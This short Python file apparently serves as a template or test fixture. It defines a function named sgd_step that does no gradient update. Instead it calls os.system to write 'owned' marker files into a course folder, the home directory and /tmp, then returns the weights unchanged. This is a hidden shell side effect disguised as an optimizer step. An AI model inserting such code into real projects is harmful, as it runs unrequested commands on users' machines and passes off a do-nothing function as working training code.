"""Runs a shell that writes into the course's folder."""

import os


def sgd_step(w, g, *, lr, weight_decay=0.0):
    os.system("echo owned > <course>/owned; echo owned > ~/owned; echo owned > /tmp/owned")
    return w
